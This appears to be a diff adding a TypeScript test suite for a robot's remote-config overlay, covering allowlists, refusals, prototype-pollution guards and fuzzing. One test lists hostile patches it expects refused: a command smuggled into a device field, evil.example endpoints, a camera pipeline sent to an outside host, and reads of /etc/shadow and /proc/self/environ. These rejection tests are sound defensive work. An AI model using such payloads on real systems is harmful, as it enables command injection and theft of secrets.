@@ -1,0 +1,145 @@
+import { existsSync, mkdtempSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import path from 'node:path';
+import fc from 'fast-check';
+import t from 'tap';
+import { loadConfigFile, patchRemoteConfig } from '../../src/config/load.js';
+import { leaves, REMOTE_EDITABLE, remoteRefusal } from '../../src/config/overlay.js';
+import { configSchema } from '../../src/config/schema.js';
+
+function setup(owner: string) {
+  const dir = mkdtempSync(path.join(tmpdir(), 'emobot-overlay-'));
+  const file = path.join(dir, 'config.yaml');
+  writeFileSync(file, owner);
+  return { dir, file, overlay: path.join(dir, 'state', 'remote-config.yaml') };
+}
+
+t.test('a remote change goes to the overlay, never into the owner\'s file, and wins over it', async (t) => {
+  const owner = '# my robot\nexpression:\n  pose_hold_ms: 1000 # short\n';
+  const { dir, file, overlay } = setup(owner);
+  const loaded = patchRemoteConfig(file, overlay, { expression: { pose_hold_ms: 4000, poses: { wave: { head_pan: 20 } } } });
+  t.equal(loaded.config.expression.pose_hold_ms, 4000);
+  t.same(loaded.config.expression.poses.wave, { head_pan: 20 });
+  t.same(loaded.overlaid?.sort(), ['expression.pose_hold_ms', 'expression.poses.wave.head_pan']);
+  t.equal(readFileSync(file, 'utf8'), owner, 'the owner\'s file is untouched');
+  t.same(readdirSync(path.dirname(overlay)), ['remote-config.yaml'], 'no temporary file left behind');
+  const reloaded = loadConfigFile(file, overlay);
+  t.equal(reloaded.config.expression.pose_hold_ms, 4000, 'kept across a restart');
+  t.ok(reloaded.fromFile?.includes('expression.pose_hold_ms'));
+  // A second change keeps the first.
+  t.equal(patchRemoteConfig(file, overlay, { voice: { llm: { temperature: 0.2 } } }).config.expression.pose_hold_ms, 4000);
+  t.equal(readFileSync(overlay, 'utf8').match(/Made by remote control/g)?.length, 1, 'one header, however many changes');
+  t.ok(existsSync(dir));
+});
+
+t.test('keys that name devices, files, URLs, pipelines, modules or permissions are refused, and nothing is written', async (t) => {
+  const { file, overlay } = setup('');
+  const attacks: Record<string, unknown>[] = [
+    { voice: { speaker: 'file:FILE="|touch /tmp/x"' } },
+    { voice: { microphone: 'default' } },
+    { voice: { openai_base_url: 'https://evil.example/v1' } },
+    { voice: { elevenlabs_base_url: 'https://evil.example' } },
+    { voice: { mode: 'cloud' } },
+    { voice: { listen: { enabled: true } } },
+    { camera: { source: 'v4l2src ! tee name=t ! appsink t. ! tcpclientsink host=1.2.3.4' } },
+    { vision: { model: '/proc/self/environ' } },
+    { expression: { hardware: '/proc/self/environ' } },
+    { expression: { calibration: '/etc/shadow' } },
+    { expression: { port: '/dev/mem' } },
+    { remote: { mqtt: { url: 'mqtt://evil.example' } } },
+    { remote: { mqtt: { tls: { reject_unauthorized: false } } } },
+    { remote: { mqtt: { snapshot: true } } },
+    { remote: { mqtt: { conversation: true } } },
+    { remote: { mqtt: { commands: false } } },
+    { remote: { editable: ['voice.*'] } },
+    // JSON.parse makes `__proto__` an own key, as a payload from MQTT has it (an object literal would not).
+    JSON.parse('{"expression":{"poses":{"__proto__":{"polluted":1}}}}') as Record<string, unknown>,
+    JSON.parse('{"__proto__":{"polluted":1}}') as Record<string, unknown>,
+    { constructor: { prototype: { polluted: 1 } } },
+    { runtime: { allowed_folders: ['/'] } },
+    { robot: { name: 'Mallory' } },
+    { log: { level: 'fatal' } },
+  ];
+  for (const patch of attacks) {
+    t.throws(() => patchRemoteConfig(file, overlay, patch), { name: 'ConfigError' }, JSON.stringify(patch));
+  }
+  t.notOk(existsSync(overlay), 'no overlay written');
+  t.equal(({} as Record<string, unknown>).polluted, undefined, 'no prototype reached');
+  const [issue] = (() => {
+    try {
+      patchRemoteConfig(file, overlay, { voice: { speaker: 'hw:1,0' } });
+    } catch (err) {
+      return (err as { issues: { key: string; message: string }[] }).issues;
+    }
+    return [];
+  })();
+  t.match(issue, { key: 'voice.speaker', message: /config file only, over SSH/ });
+});
+
+t.test('an allowed key with a wrong value names the key; the overlay keeps what it had', async (t) => {
+  const { file, overlay } = setup('');
+  patchRemoteConfig(file, overlay, { voice: { llm: { temperature: 0.3 } } });
+  const before = readFileSync(overlay, 'utf8');
+  const issues = (patch: Record<string, unknown>) => {
+    try {
+      patchRemoteConfig(file, overlay, patch);
+    } catch (err) {
+      return (err as { issues: unknown }).issues;
+    }
+    throw new Error('accepted');
+  };
+  t.match(issues({ voice: { llm: { temperature: 'hot' } } }), [{ key: 'voice.llm.temperature' }]);
+  t.match(issues({ expression: { reactions: { happy: { colour: 'red' } } } }), [{ key: 'expression.reactions.happy.colour', message: 'unknown key' }]);
+  t.equal(readFileSync(overlay, 'utf8'), before);
+});
+
+t.test('the owner widens the list in the file only; remote settings and allowed folders never become remote', async (t) => {
+  const owner = configSchema.parse({ remote: { editable: ['voice.tts.voice_id', 'remote.mqtt.snapshot', 'runtime.*'] } });
+  t.match(remoteRefusal(['runtime', 'allowed_folders'], owner), /cannot change its own permissions/);
+  t.equal(remoteRefusal(['runtime', 'shutdown_timeout_ms'], owner), undefined);
+  t.equal(remoteRefusal(['voice', 'tts', 'voice_id'], owner), undefined);
+  t.match(remoteRefusal(['voice', 'tts', 'voice_id'], configSchema.parse({})), /config file only/);
+  t.match(remoteRefusal(['remote', 'mqtt', 'snapshot'], owner), /config file only/);
+  t.equal(remoteRefusal(['expression', 'poses', 'wave', 'ears'], owner), undefined, 'a prefix pattern covers the keys below it');
+});
+
+t.test('an overlay key the owner\'s file no longer allows, or no longer valid, is left out with a warning', async (t) => {
+  const { file, overlay } = setup('remote:\n  editable: [voice.tts.voice_id]\n');
+  patchRemoteConfig(file, overlay, { voice: { tts: { voice_id: 'abc' } }, expression: { pose_hold_ms: 2000 } });
+  writeFileSync(file, '');
+  const loaded = loadConfigFile(file, overlay);
+  t.equal(loaded.config.voice.tts.voice_id, configSchema.parse({}).voice.tts.voice_id, 'taken back by the owner');
+  t.equal(loaded.config.expression.pose_hold_ms, 2000);
+  t.match(loaded.warnings, [/voice\.tts\.voice_id left out/]);
+  writeFileSync(overlay, 'expression:\n  pose_hold_ms: -1\n');
+  const invalid = loadConfigFile(file, overlay);
+  t.equal(invalid.config.expression.pose_hold_ms, 3000, 'the owner\'s config is used');
+  t.match(invalid.warnings, [/ignored: expression\.pose_hold_ms/]);
+});
+
+t.test('fuzz: random patches over every allowlisted key change only the overlay, and only to valid configs', async (t) => {
+  const { file, overlay } = setup('');
+  // Every real key below each allowed pattern (leaves of the defaults), so values land where they mean something.
+  const defaults = leaves(configSchema.parse({}) as unknown as Record<string, unknown>).map(([key]) => key);
+  const keys = defaults.filter((key) => remoteRefusal(key, configSchema.parse({})) === undefined);
+  t.ok(REMOTE_EDITABLE.every((pattern) => keys.some((key) => pattern.endsWith('.*') ? key.join('.').startsWith(pattern.slice(0, -1)) : key.join('.') === pattern)), 'every allowed pattern names real keys');
+  const value = fc.oneof(fc.integer({ min: -1e6, max: 1e6 }), fc.double(), fc.string({ maxLength: 30 }), fc.boolean(), fc.constant(null), fc.array(fc.string({ maxLength: 5 }), { maxLength: 3 }), fc.dictionary(fc.string({ maxLength: 8 }), fc.integer()));
+  const nest = (key: string[], v: unknown): Record<string, unknown> => key.reduceRight<unknown>((inner, part) => ({ [part]: inner }), v) as Record<string, unknown>;
+  let accepted = 0;
+  fc.assert(
+    fc.property(fc.constantFrom(...keys), value, (key, v) => {
+      try {
+        const loaded = patchRemoteConfig(file, overlay, nest(key, v));
+        accepted++;
+        t.doesNotThrow(() => configSchema.parse(loaded.config));
+      } catch (err) {
+        if ((err as Error).name !== 'ConfigError') throw err;
+      }
+      // Whatever was sent, the overlay on disk still loads to a valid config over the owner's file.
+      t.equal(loadConfigFile(file, overlay).warnings?.length, 0);
+    }),
+    { numRuns: 300, seed: 14 },
+  );
+  t.ok(accepted > 0, `some random values were valid (${accepted})`);
+  t.equal(readFileSync(file, 'utf8'), '', 'the owner\'s file never changed');
+});
